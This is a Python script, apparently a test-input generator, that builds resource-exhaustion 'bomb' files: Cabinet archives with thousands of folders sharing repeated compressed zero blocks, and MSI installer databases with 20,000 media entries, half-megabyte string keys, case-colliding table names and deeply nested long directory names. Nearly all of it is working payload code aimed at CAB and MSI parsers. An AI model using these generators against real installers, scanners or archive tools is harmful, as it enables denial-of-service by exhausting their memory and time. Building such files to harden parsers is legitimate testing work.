# SPDX-License-Identifier: Apache-2.0
"""Small files that cost a careless reader hours or gigabytes: bombs.py KIND FILE [WINBOX]."""
import os, struct, subprocess, sys, tempfile, zlib

ZEROS = b"CK" + (lambda c: c.compress(bytes(32768)) + c.flush())(zlib.compressobj(9, zlib.DEFLATED, -15))


def cabinet(folders, blocks, names):
    """That many folders, all of the same blocks, with a file in each."""
    body = b"".join(struct.pack("<IHH", 0, len(ZEROS), 32768) + ZEROS for _ in range(blocks))
    rows = b"".join(struct.pack("<IIHHHH", blocks * 32768, 0, i, 0x21, 0, 0x20) + n + b"\0" for i, n in enumerate(names))
    head = 36 + 8 * folders
    size = head + len(rows) + len(body)
    out = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, size, 0, head, 0, 3, 1, folders, len(names), 0, 0, 0)
    return out + struct.pack("<IHH", head + len(rows), blocks, 1) * folders + rows + body


def packed(name, table=False):
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz._"
    out, i = "\u4840" if table else "", 0
    while i < len(name):
        a = digits.find(name[i])
        b = digits.find(name[i + 1]) if i + 1 < len(name) else -1
        out += name[i] if a < 0 else chr(0x4800 + a) if b < 0 else chr(0x3800 + (b << 6) + a)
        i += 2 if a >= 0 and b >= 0 else 1
    return out


class Database:
    """Tables of strings and numbers: add(name, "Column:s!", rows)."""

    def __init__(self):
        self.ids, self.text, self.tables, self.streams = {}, [], [], {}

    def id(self, s):
        if not s:
            return 0
        if s not in self.ids:
            self.text.append(s)
            self.ids[s] = len(self.text)
        return self.ids[s]

    def add(self, name, columns, rows, stored=True):
        types = []
        for c in columns.split():
            n, t = c.split(":")
            types.append((n, {"s": 0xD00, "i": 0x502, "l": 0x104}[t[0]] | (0x2000 if t.endswith("!") else 0x1000)))
        self.tables.append((name, types))
        if stored:
            self.streams[packed(name, True)] = self.rows([t for _, t in types], rows)

    def rows(self, types, rows):
        out = b""
        for k, t in enumerate(types):
            if t & 0x800:
                out += b"".join(self.id(r[k]).to_bytes(3, "little") for r in rows)
            elif t & 0xFF == 2:
                out += b"".join(struct.pack("<H", r[k] + 0x8000) for r in rows)
            else:
                out += b"".join(struct.pack("<I", r[k] + 0x80000000) for r in rows)
        return out

    def write(self, path, box, extra=()):
        columns = [(t, i + 1, n, k) for t, types in self.tables for i, (n, k) in enumerate(types)]
        self.streams[packed("_Tables", True)] = self.rows([0xD00], [(t,) for t, _ in self.tables])
        self.streams[packed("_Columns", True)] = self.rows(
            [0xD00, 0x502, 0xD00, 0x502], [(t, i, n, (k & 0xFFFF) - 0) if k < 0x8000 else (t, i, n, k - 0x10000) for t, i, n, k in columns]
        )
        data, pool = b"", struct.pack("<HH", 65001, 0x8000)
        for s in self.text:
            b = s.encode()
            data += b
            pool += struct.pack("<HHI", 0, 1, len(b)) if len(b) > 65535 else struct.pack("<HH", len(b), 1)
        self.streams[packed("_StringPool", True)] = pool
        self.streams[packed("_StringData", True)] = data
        self.streams["\5SummaryInformation"] = (
            struct.pack("<HHI16xI", 0xFFFE, 0, 0x2000A, 1) + bytes.fromhex("e0859ff2f94f6810ab9108002b27b3d9") + struct.pack("<III", 48, 8, 0)
        )
        self.streams.update(extra)
        with tempfile.TemporaryDirectory() as d:
            args = []
            for i, (n, b) in enumerate(self.streams.items()):
                with open(os.path.join(d, str(i)), "wb") as f:
                    f.write(b)
                args.append(n + "=" + os.path.join(d, str(i)))
            subprocess.run([box, "cfb", "4", path, *args], check=True)
        with open(path, "r+b") as f:  # the class of the root: a database
            f.seek(48)
            f.seek((struct.unpack("<I", f.read(4))[0] + 1) * 4096 + 80)
            f.write(bytes.fromhex("84100c0000000000c000000000000046"))


def installer():
    db = Database()
    order = ["CostInitialize", "CostFinalize", "InstallValidate", "InstallInitialize", "InstallFiles", "InstallFinalize"]
    db.add("InstallExecuteSequence", "Action:s! Condition:s Sequence:i", [(a, "1", i + 1) for i, a in enumerate(order)])
    code = "{00000000-0000-0000-0000-000000000002}"
    facts = [("Manufacturer", "x"), ("ProductCode", code), ("ProductLanguage", "1033"), ("ProductName", "x"), ("ProductVersion", "1.0.0")]
    db.add("Property", "Property:s! Value:s", facts)
    return db


def files(db, n, name=lambda i: "f%d" % i, folder="INSTALLDIR", size=1, attributes=0x2000):
    db.add(
        "File",
        "File:s! Component_:s FileName:s FileSize:l Version:s Language:s Attributes:i Sequence:l",
        [("f%d" % i, "c", name(i), size, "", "", attributes, i + 1) for i in range(n)],
    )
    db.add(
        "Component",
        "Component:s! ComponentId:s Directory_:s Attributes:i Condition:s KeyPath:s",
        [("c", "{00000000-0000-0000-0000-000000000001}", folder, 0, "", "f0")],
    )
    db.add(
        "Feature",
        "Feature:s! Feature_Parent:s Title:s Description:s Display:i Level:i Directory_:s Attributes:i",
        [("All", "", "", "", 1, 1, folder, 0)],
    )
    db.add("FeatureComponents", "Feature_:s! Component_:s!", [("All", "c")])


def media(path, box):
    """Thousands of media that name one cabinet."""
    db = installer()
    db.add("Media", "DiskId:i! LastSequence:l DiskPrompt:s Cabinet:s", [(i, i + 1, "", "#a") for i in range(1, 20000)])
    files(db, 1, size=2000 * 32768, attributes=0)
    db.add("Directory", "Directory:s! Directory_Parent:s DefaultDir:s", [("INSTALLDIR", "", "x")])
    db.write(path, box, {packed("a"): cabinet(1, 2000, [b"f0"])})


def keys(path, box):
    """Long texts as one half of many keys."""
    db, text = installer(), "x" * 500000
    db.add("Bomb", "Text:s! Number:l!", [(text, i) for i in range(60000)])
    db.write(path, box)


def twins(path, box):
    """Tables whose names differ in case alone."""
    db = installer()
    db.add("\u00e9" * 12, "Text:s!", [("%d" % i,) for i in range(100000)])
    for i in range(1, 4000):
        name = "".join("\u00c9" if i >> k & 1 else "\u00e9" for k in range(12))
        db.add(name, "Text:s!", (), False)
    db.write(path, box)


def paths(path, box):
    """Folders in folders, each with the same long name."""
    db, name = installer(), "x" * 600000
    files(db, 20000, folder="d90")
    db.add("Media", "DiskId:i! LastSequence:l DiskPrompt:s Cabinet:s", [(1, 20000, "", "a.cab")])
    db.add(
        "Directory",
        "Directory:s! Directory_Parent:s DefaultDir:s",
        [("d%d" % i, "d%d" % (i - 1) if i else "", name) for i in range(91)],
    )
    db.write(path, box)


kind, path = sys.argv[1:3]
if kind == "folders":
    with open(path, "wb") as f:
        f.write(cabinet(20000, 10000, [b"f%d" % i for i in range(20000)]))
else:
    {"media": media, "keys": keys, "twins": twins, "paths": paths}[kind](path, sys.argv[3])
